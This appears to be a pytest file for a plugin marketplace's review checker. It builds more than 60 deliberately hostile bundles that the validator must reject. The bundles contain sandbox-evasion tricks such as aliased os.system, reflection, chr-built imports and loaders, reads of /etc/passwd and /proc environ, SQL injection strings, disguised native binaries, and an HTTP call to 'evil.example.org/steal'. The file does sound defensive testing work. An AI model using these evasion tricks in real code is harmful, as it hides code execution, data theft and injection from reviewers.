"""Bad bundles built the way an attacker would: each hides a blocked module or call, built SQL or an
undeclared capability behind aliasing, reflection, helpers, loaders or a misleading file name.

Each case runs through ``mmo validate`` and the platform's review (intake plus every registered check)
and must come out with its expected finding code, as an error.
"""

from __future__ import annotations

import importlib.util
import io
import json
import marshal
import struct
import zipfile

import pytest
from maidcore_review import extension
from mmo_maid_sdk._validate import validate

from maidcore.extensions import Extensions
from maidcore.marketplace.review import review_path
from tests.extensions.maidcore_review.bundles import manifest
from tests.extensions.maidcore_review.test_corpus import SQL_CAPS, Case, main_with, plugin, zip_case

# --- payloads -------------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(120)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(120)
PE = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + bytes(0x80 - 64) + b"PE\x00\x00" + bytes(64)
PYC = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("import os\nos.system('id')\n", "x", "exec"))


def zipped(files: dict[str, str], prefix: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, text in files.items():
            zf.writestr(name, text)
    return prefix + buffer.getvalue()


PNG_WITH_ZIP = zipped({"evil.py": "import subprocess\n"}, prefix=b"\x89PNG\r\n\x1a\n" + bytes(64))
CAPS_SQL = SQL_CAPS
#: The context put away in a holder by one handler and used from another function later.
STASH = """import contextvars
import types

STASH = {make}


@plugin.on_event("member_join")
def keep(ctx, event):
    {put}


def later():
    {get}.secrets.get("token")
"""


def handler(body: str, event: str = "member_join", ctx: str = "ctx") -> str:
    """A registered handler with ``body`` (indented already)."""
    return main_with(f'@plugin.on_event("{event}")\ndef handle({ctx}, event):\n{body}')


def sql(body: str, **files) -> Case:
    return plugin(CAPS_SQL, main=handler(body), **files)


ATTACKS = [
    # --- every shipped file is scanned ------------------------------------------------------------
    Case(
        "tests-dir-in-zip",
        zip_case([("tests/helper.py", b"import subprocess\n")]),
        "forbidden_import",
        path="tests/helper.py",
    ),
    Case(
        "venv-dir-in-zip", zip_case([("venv/lib/site.py", b"eval('1')\n")]), "forbidden_call", path="venv/lib/site.py"
    ),
    Case("root-conftest-in-zip", zip_case([("conftest.py", b"import os\nos.system('id')\n")]), "forbidden_call"),
    Case("dot-venv-in-zip", zip_case([(".venv/x.py", b"import pty\n")]), "forbidden_import", path=".venv/x.py"),
    # --- native code by content, not suffix -------------------------------------------------------
    Case("elf-as-dat", plugin(**{"speedups.dat": ELF}), "binary_file", path="speedups.dat"),
    Case("mach-o-as-bin", plugin(**{"lib/native.bin": MACH_O}), "binary_file"),
    Case("pe-as-txt", plugin(**{"notes.txt": PE}), "binary_file"),
    Case("pyc-as-data", plugin(**{"data/cache.db": PYC}), "binary_file"),
    Case("zip-appended-to-png", plugin(**{"assets/logo.png": PNG_WITH_ZIP}), "nested_archive"),
    Case("vendored-zip", plugin(**{"vendor.zip": zipped({"pkg/__init__.py": "import os\n"})}), "nested_archive"),
    # --- blocked calls through aliases, star imports and re-exports -------------------------------
    Case("os-alias", plugin(main=main_with('import os as o\no.system("id")')), "forbidden_call"),
    Case("from-os-alias", plugin(main=main_with('from os import popen as p\np("id")')), "forbidden_call"),
    Case("star-os", plugin(main=main_with('from os import *\nsystem("id")')), "forbidden_call"),
    Case("shutil-os", plugin(main=main_with('import shutil\nshutil.os.system("id")')), "forbidden_call"),
    Case("tempfile-private-os", plugin(main=main_with('import tempfile\ntempfile._os.popen("id")')), "forbidden_call"),
    Case("os-path-os", plugin(main=main_with('import os.path as p\np.os.execv("/bin/sh", [])')), "forbidden_call"),
    Case(
        "bundled-reexport",
        plugin(main=main_with('import helpers\nhelpers.os.system("id")'), **{"helpers.py": "import os\n"}),
        "forbidden_call",
        path="__main__.py",
    ),
    Case(
        "class-attribute-alias",
        plugin(main=main_with('import os\n\n\nclass K:\n    sh = os\n\n\nK.sh.system("id")')),
        "forbidden_call",
    ),
    Case(
        "helper-returns-module",
        plugin(main=main_with('import os\n\n\ndef get():\n    return os\n\n\nget().system("id")')),
        "forbidden_call",
    ),
    Case(
        "module-through-parameter",
        plugin(main=main_with('import os\n\n\ndef f(m, n):\n    return getattr(m, n)\n\n\nf(os, "system")("id")')),
        "forbidden_call",
    ),
    Case(
        "star-asyncio", plugin(main=main_with("from asyncio import *\ncreate_subprocess_shell('id')")), "forbidden_call"
    ),
    # --- reflection --------------------------------------------------------------------------------
    Case("getattr-folded", plugin(main=main_with('import os\ngetattr(os, "sys" + "tem")("id")')), "forbidden_call"),
    Case(
        "getattr-computed-on-module",
        plugin(main=main_with("import os\n\n\ndef run(name):\n    return getattr(os, name)")),
        "reflection",
    ),
    Case("vars-module", plugin(main=main_with('import os\nvars(os)["system"]("id")')), "forbidden_call"),
    Case("module-dict", plugin(main=main_with('import os\nos.__dict__["popen"]("id")')), "forbidden_call"),
    Case("getattribute", plugin(main=main_with('import os\nos.__getattribute__("popen")("id")')), "forbidden_call"),
    Case("sys-modules-literal", plugin(main=main_with('import sys\nsys.modules["os"].system("id")')), "forbidden_call"),
    Case("sys-modules-get", plugin(main=main_with('import sys\nsys.modules.get("subprocess")')), "forbidden_import"),
    Case(
        "sys-modules-computed",
        plugin(main=main_with("import sys\n\n\ndef mod(n):\n    return sys.modules[n]")),
        "reflection",
    ),
    Case("sys-modules-iterated", plugin(main=main_with("import sys\nMODS = list(sys.modules.values())")), "reflection"),
    Case("builtin-self", plugin(main=main_with('print.__self__.eval("1")')), "reflection"),
    Case("subclasses", plugin(main=main_with("x = ().__class__.__base__.__subclasses__()")), "reflection"),
    Case("function-globals", plugin(main=main_with('def f():\n    pass\n\n\nf.__globals__["x"]')), "reflection"),
    Case("frames", plugin(main=main_with("import inspect\ninspect.currentframe().f_back")), "reflection"),
    Case(
        "traceback-frame",
        plugin(main=main_with("try:\n    1 / 0\nexcept Exception as e:\n    e.__traceback__.tb_frame")),
        "reflection",
    ),
    Case("gc-objects", plugin(main=main_with("import gc\nOBJ = gc.get_objects()")), "reflection"),
    Case("globals-builtins", plugin(main=main_with('B = globals()["__builtins__"]')), "reflection"),
    Case("globals-computed", plugin(main=main_with("def dispatch(name):\n    return globals()[name]")), "reflection"),
    Case("import-dunder-builtins", plugin(main=main_with("from json import __builtins__ as b")), "reflection"),
    Case("module-in-container", plugin(main=main_with('import os\nTOOLS = {"os": os}')), "reflection"),
    Case(
        "getattr-passed-around",
        plugin(main=main_with('import functools, os\nfunctools.reduce(getattr, ["system"], os)')),
        "reflection",
    ),
    Case(
        "string-annotation-code",
        plugin(main=main_with("def f(x: \"__import__('os').system('id')\"):\n    pass")),
        "reflection",
    ),
    Case(
        "source-encoding",
        plugin(**{"helpers.py": "# -*- coding: unicode_escape -*-\nX = 1\n"}),
        "source_encoding",
        path="helpers.py",
    ),
    # --- the builtins, however reached ---------------------------------------------------------------
    Case("exec-before-shadow", plugin(main=main_with('exec("x = 1")\n\n\ndef exec():\n    pass')), "forbidden_call"),
    Case(
        "param-does-not-shadow-module",
        plugin(main=main_with('def helper(eval=None):\n    return eval\n\n\nVALUE = eval("1")')),
        "forbidden_call",
    ),
    Case("lambda-default", plugin(main=main_with('f = lambda e=eval: e("1")')), "forbidden_call"),
    Case("decorator-eval", plugin(main=main_with("@eval\ndef f():\n    pass")), "forbidden_call"),
    Case(
        "import-folded-name", plugin(main=main_with("__import__(chr(111) + chr(115)).system('id')")), "forbidden_call"
    ),
    Case("breakpoint", plugin(main=main_with("breakpoint()")), "forbidden_call"),
    Case(
        "private-stdlib-helper",
        plugin(main=main_with('import dataclasses\ndataclasses._create_fn("f", [], ["return 1"])')),
        "reflection",
    ),
    Case(
        "annotations-written",
        plugin(main=main_with('def f(x):\n    pass\n\n\nf.__annotations__["x"] = "int"')),
        "reflection",
    ),
    Case(
        "forward-ref-code",
        plugin(main=main_with("import typing\ntyping.ForwardRef(\"__import__('os').system('id')\")")),
        "reflection",
    ),
    # --- loaders ------------------------------------------------------------------------------------------
    Case("runpy", plugin(main=main_with('import runpy\nrunpy.run_path("/tmp/x.py")')), "dynamic_import"),
    Case("zipimport", plugin(main=main_with('import zipimport\nzipimport.zipimporter("d.bin")')), "dynamic_import"),
    Case("imp-load-source", plugin(main=main_with('import imp\nimp.load_source("x", "/tmp/x.py")')), "dynamic_import"),
    Case(
        "spec-from-tmp",
        plugin(main=main_with('import importlib.util\nS = importlib.util.spec_from_file_location("x", "/tmp/x.py")')),
        "dynamic_import",
    ),
    Case(
        "source-file-loader",
        plugin(main=main_with('from importlib.machinery import SourceFileLoader\nSourceFileLoader("x", "data.txt")')),
        "dynamic_import",
    ),
    Case("sys-path-tmp", plugin(main=main_with('import sys\nsys.path.insert(0, "/tmp")')), "dynamic_import"),
    Case("module-loader", plugin(main=main_with('__loader__.load_module("x")')), "dynamic_import"),
    Case("logging-config", plugin(main=main_with("import logging.config")), "dynamic_import"),
    Case(
        "import-module-mapped",
        plugin(main=main_with('import importlib\nMODS = list(map(importlib.import_module, ["json"]))')),
        "dynamic_import",
    ),
    Case(
        "import-module-relative-package",
        plugin(main=main_with('import importlib\nimportlib.import_module(".", "subprocess")')),
        "forbidden_import",
    ),
    Case(
        "import-module-relative-computed",
        plugin(main=main_with('import importlib\n\n\ndef load(p):\n    return importlib.import_module(".x", p)')),
        "dynamic_import",
    ),
    Case(
        "resolve-name",
        plugin(main=main_with('import pkgutil\npkgutil.resolve_name("os:system")("id")')),
        "forbidden_call",
    ),
    Case(
        "mock-patch-target",
        plugin(main=main_with('from unittest import mock\nmock.patch("subprocess.run")')),
        "forbidden_import",
    ),
    Case(
        "sdk-plugin-loader",
        plugin(main=main_with("from mmo_maid_sdk._loader import load_plugin_module")),
        "dynamic_import",
    ),
    Case(
        "sdk-generated-code",
        plugin(main=main_with("from mmo_maid_sdk import _api\n_api.build_methods")),
        "code_loading",
    ),
    # --- code objects and pickles ------------------------------------------------------------------------
    Case("marshal", plugin(main=main_with('import marshal\nCODE = marshal.loads(b"")')), "code_loading"),
    Case("pickle", plugin(main=main_with('import pickle\npickle.loads(b"")')), "code_loading"),
    Case("function-type", plugin(main=main_with("import types\nF = types.FunctionType")), "code_loading"),
    Case("shelve", plugin(main=main_with('import shelve\nshelve.open("/tmp/db")')), "code_loading"),
    # --- interpreters, processes, network ------------------------------------------------------------------
    Case(
        "code-console", plugin(main=main_with('import code\ncode.InteractiveConsole().push("1")')), "forbidden_import"
    ),
    Case("pdb", plugin(main=main_with("import pdb")), "forbidden_import"),
    Case("doctest", plugin(main=main_with("import doctest")), "forbidden_import"),
    Case("timeit-text", plugin(main=main_with('import timeit\ntimeit.timeit("import os")')), "forbidden_call"),
    Case(
        "asyncio-subprocess",
        plugin(main=main_with('import asyncio\n\n\nasync def go():\n    await asyncio.create_subprocess_shell("id")')),
        "forbidden_call",
    ),
    Case(
        "loop-subprocess",
        plugin(
            main=main_with(
                "import asyncio\n\n\nasync def go():\n    loop = asyncio.get_running_loop()\n"
                '    await loop.subprocess_exec(None, "id")'
            )
        ),
        "forbidden_call",
    ),
    Case(
        "loop-connection",
        plugin(
            main=main_with(
                "import asyncio\n\n\nasync def go():\n    loop = asyncio.get_running_loop()\n"
                '    await loop.create_connection(None, "h", 1)'
            )
        ),
        "forbidden_call",
    ),
    Case("urllib-request", plugin(main=main_with("import urllib.request")), "forbidden_import"),
    Case(
        "process-pool",
        plugin(main=main_with("from concurrent.futures import ProcessPoolExecutor\nPOOL = ProcessPoolExecutor")),
        "forbidden_call",
    ),
    Case(
        "sqlite-extension",
        plugin(main=main_with('import sqlite3\nc = sqlite3.connect(":memory:")\nc.enable_load_extension(True)')),
        "forbidden_call",
    ),
    Case("cffi", plugin(main=main_with("import cffi")), "forbidden_import"),
    Case("ipython-shell", plugin(main=main_with("import IPython")), "forbidden_import"),
    Case("wsgi-server", plugin(main=main_with("from wsgiref.simple_server import make_server")), "forbidden_import"),
    # --- files outside the bundle ------------------------------------------------------------------------
    Case("open-etc", plugin(main=main_with('SECRET = open("/etc/passwd").read()')), "file_outside_bundle"),
    Case(
        "path-proc",
        plugin(main=main_with('from pathlib import Path\nMOUNTS = Path("/proc/self/mountinfo").read_text()')),
        "file_outside_bundle",
    ),
    Case(
        "proc-fstring",
        plugin(main=main_with('def env(pid):\n    return open(f"/proc/{pid}/environ").read()')),
        "file_outside_bundle",
    ),
    Case("dotdot", plugin(main=main_with('DATA = open("../../x.json").read()')), "file_outside_bundle"),
    # --- SQL built however it is hidden -------------------------------------------------------------------
    Case(
        "sql-helper",
        plugin(
            CAPS_SQL,
            main=main_with(
                "def build(name):\n    return f\"SELECT * FROM t WHERE n = '{name}'\"\n\n\n"
                '@plugin.on_event("member_join")\ndef handle(ctx, event):\n    ctx.sql.query(build(event["username"]))'
            ),
        ),
        "sql_string_building",
    ),
    Case(
        "sql-bound-method",
        plugin(
            CAPS_SQL,
            main=main_with(
                "class Q:\n    def where(self, name):\n"
                '        return "SELECT * FROM t WHERE n = \'" + name + "\'"\n\n\n'
                '@plugin.on_event("member_join")\ndef handle(ctx, event):\n'
                '    ctx.sql.query(Q().where(event["username"]))'
            ),
        ),
        "sql_string_building",
    ),
    Case(
        "sql-format-map",
        sql('    ctx.sql.query("SELECT * FROM t WHERE n = \'{n}\'".format_map({"n": event["username"]}))'),
        "sql_string_building",
    ),
    Case(
        "sql-template",
        sql(
            "    from string import Template\n\n"
            '    ctx.sql.query(Template("SELECT * FROM t WHERE n = \'$n\'").substitute(n=event["username"]))'
        ),
        "sql_string_building",
    ),
    Case(
        "sql-bound-format",
        sql('    fmt = "SELECT * FROM t WHERE n = \'{}\'".format\n    ctx.sql.query(fmt(event["username"]))'),
        "sql_string_building",
    ),
    Case(
        "sql-alias-execute",
        sql('    run = ctx.sql.execute\n    run("DELETE FROM t WHERE n = \'%s\'" % event["username"])'),
        "sql_string_building",
    ),
    Case(
        "sql-list-append",
        sql(
            '    parts = ["SELECT * FROM t WHERE n = \'"]\n'
            '    parts.append(event["username"])\n    ctx.sql.query("".join(parts))'
        ),
        "sql_string_building",
    ),
    Case("sql-raw-event", sql('    ctx.sql.query(event["username"])'), "sql_not_constant"),
    Case(
        "sql-wrapper",
        plugin(
            CAPS_SQL,
            main=main_with(
                "def fetch(ctx, text):\n    return ctx.sql.query(text)\n\n\n"
                '@plugin.on_event("member_join")\ndef handle(ctx, event):\n'
                "    fetch(ctx, f\"SELECT * FROM t WHERE a = '{event['username']}'\")"
            ),
        ),
        "sql_string_building",
    ),
    Case(
        "sql-constant-overwritten",
        sql(
            '    import schema\n\n    schema.TABLE = event["username"]\n'
            '    ctx.sql.query(f"SELECT * FROM {schema.TABLE}")',
            **{"schema.py": 'TABLE = "t"\n'},
        ),
        "sql_string_building",
    ),
    Case(
        "sql-second-order",
        sql('    name = ctx.sql.scalar("SELECT name FROM t LIMIT 1")\n    ctx.sql.query(f"SELECT * FROM {name}")'),
        "sql_string_building",
    ),
    Case(
        "sql-instance-attribute",
        plugin(
            CAPS_SQL,
            main=main_with(
                "class Repo:\n    def __init__(self, ctx, table):\n"
                "        self.ctx = ctx\n        self.table = table\n\n"
                '    def all(self):\n        return self.ctx.sql.query(f"SELECT * FROM {self.table}")\n\n\n'
                '@plugin.on_event("member_join")\ndef handle(ctx, event):\n    Repo(ctx, event["username"]).all()'
            ),
        ),
        "sql_string_building",
    ),
    Case(
        "sql-partial",
        sql('    import functools\n\n    q = functools.partial(ctx.sql.query)\n    q("SELECT 1")'),
        "sql_not_constant",
    ),
    Case("sql-getattr", sql('    getattr(ctx.sql, "query")("SELECT " + event["username"])'), "sql_string_building"),
    Case(
        "sql-guard-then-reassign",
        sql(
            '    col = event["username"]\n    if col not in ("a", "b"):\n        return\n    col = event["nick"]\n'
            '    ctx.sql.query(f"SELECT {col} FROM t")'
        ),
        "sql_string_building",
    ),
    Case(
        "sql-from-tmp-file",
        sql('    with open("/tmp/q.sql") as f:\n        ctx.sql.execute(f.read())'),
        "sql_not_constant",
    ),
    Case(
        "sql-kwargs-mapping", sql('    ctx.sql.query(**{"sql": "SELECT " + event["username"]})'), "sql_string_building"
    ),
    Case(
        "sql-dunder-call",
        sql('    ctx.sql.execute.__call__("DELETE FROM t WHERE a = \'" + event["username"] + "\'")'),
        "sql_not_constant",
    ),
    Case(
        "sql-starred",
        sql('    args = ["SELECT " + event["username"]]\n    ctx.sql.query(*args)'),
        "sql_string_building",
    ),
    Case(
        "sql-str-of-object",
        plugin(
            CAPS_SQL,
            main=main_with(
                "class Q:\n    def __init__(self, v):\n        self.v = v\n\n    def __str__(self):\n"
                "        return f\"SELECT * FROM t WHERE a = '{self.v}'\"\n\n\n"
                '@plugin.on_event("member_join")\ndef handle(ctx, event):\n    ctx.sql.query(str(Q(event["username"])))'
            ),
        ),
        "sql_string_building",
    ),
    # --- capabilities however the context travels ----------------------------------------------------
    Case(
        "cap-method-alias",
        plugin(main=handler('    ban = ctx.discord.ban_member\n    ban(user_id=event["user_id"])')),
        "capability_undeclared",
    ),
    Case(
        "cap-getattr-folded",
        plugin(main=handler('    getattr(ctx.discord, "ban_" + "member")(user_id=event["user_id"])')),
        "capability_undeclared",
    ),
    Case(
        "cap-getattr-computed",
        plugin(main=handler('    getattr(ctx.discord, event["action"])(user_id=event["user_id"])')),
        "capability_dynamic",
    ),
    Case("cap-getattr-ctx", plugin(main=handler('    getattr(ctx, event["api"]).get("x")')), "capability_dynamic"),
    Case(
        "cap-renamed-helper",
        plugin(
            main=main_with(
                "def punish(c, uid):\n    c.discord.kick_member(user_id=uid)\n\n\n"
                '@plugin.on_event("member_join")\ndef handle(ctx, event):\n    punish(ctx, event["user_id"])'
            )
        ),
        "capability_undeclared",
    ),
    Case(
        "cap-helper-module",
        plugin(
            main=handler('    from mod import punish\n\n    punish(ctx, event["user_id"])'),
            **{"mod.py": "def punish(c, uid):\n    api = c.discord\n    api.kick_member(user_id=uid)\n"},
        ),
        "capability_undeclared",
        path="mod.py",
    ),
    Case(
        "cap-instance-attribute",
        plugin(
            main=main_with(
                "class Svc:\n    def __init__(self, c):\n        self.c = c\n\n    def go(self):\n"
                '        self.c.secrets.get("k")\n\n\n@plugin.on_event("member_join")\ndef handle(ctx, event):\n'
                "    Svc(ctx).go()"
            )
        ),
        "capability_undeclared",
    ),
    Case(
        "cap-container",
        plugin(main=handler('    apis = {"s": ctx.secrets}\n    apis["s"].get("k")')),
        "capability_undeclared",
    ),
    Case(
        "cap-callback",
        plugin(
            main=main_with(
                'import asyncio\n\n\ndef work(c):\n    c.secrets.get("x")\n\n\n@plugin.on_event("member_join")\n'
                "async def handle(ctx, event):\n    await asyncio.to_thread(work, ctx)"
            )
        ),
        "capability_undeclared",
    ),
    Case(
        "cap-stashed-in-dict",
        plugin(main=main_with(STASH.format(make="{}", put='STASH["c"] = ctx', get='STASH["c"]'))),
        "capability_undeclared",
    ),
    Case(
        "cap-stashed-in-attribute-dict",
        plugin(
            main=main_with(
                STASH.format(
                    make="types.SimpleNamespace(items={})", put='STASH.items["c"] = ctx', get='STASH.items["c"]'
                )
            )
        ),
        "capability_undeclared",
    ),
    Case(
        "cap-stashed-by-extend",
        plugin(main=main_with(STASH.format(make="[]", put="STASH.extend([ctx])", get="STASH[0]"))),
        "capability_undeclared",
    ),
    Case(
        "cap-stashed-in-contextvar",
        plugin(
            main=main_with(STASH.format(make='contextvars.ContextVar("c")', put="STASH.set(ctx)", get="STASH.get()"))
        ),
        "capability_undeclared",
    ),
    Case(
        "cap-stashed-on-namespace",
        plugin(main=main_with(STASH.format(make="types.SimpleNamespace()", put="STASH.c = ctx", get="STASH.c"))),
        "capability_undeclared",
    ),
    Case(
        "cap-stashed-through-dunder-dict",
        plugin(
            main=main_with(STASH.format(make="types.SimpleNamespace()", put='STASH.__dict__["c"] = ctx', get="STASH.c"))
        ),
        "capability_undeclared",
    ),
    Case(
        "module-stashed-in-registry",
        plugin(main=main_with('import os\nREG = {}\nREG["x"] = os\n\n\ndef later():\n    REG["x"].system("id")')),
        "forbidden_call",
    ),
    Case(
        "http-alias-undeclared-host",
        plugin(
            manifest(proxy_domains_requested=["api.example.com"]),
            main=handler('    fetch = ctx.http.get\n    fetch("https://evil.example.org/steal")'),
        ),
        "http_domain_undeclared",
    ),
]


@pytest.fixture(scope="module")
def checks():
    exts = Extensions(strict=True)
    exts.register(extension, name="review")
    return exts.review_checks()


def test_at_least_60_attack_bundles_with_distinct_names():
    assert len(ATTACKS) >= 60
    assert len({c.id for c in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("case", ATTACKS, ids=[c.id for c in ATTACKS])
def test_attack_is_caught(case: Case, tmp_path, checks):
    path = case.build(tmp_path)
    findings = validate(path)
    found = [f for f in findings if f.code == case.code]
    assert found, f"expected {case.code}; got {json.dumps([(f.code, f.path, f.line, f.message) for f in findings])}"
    assert {f.severity for f in found} == {case.severity}
    if case.path is not None:
        assert any(f.path == case.path for f in found), found
    report = review_path(checks, path)
    assert case.code in {f.code for f in report.findings}
    assert report.status.value == "rejected"
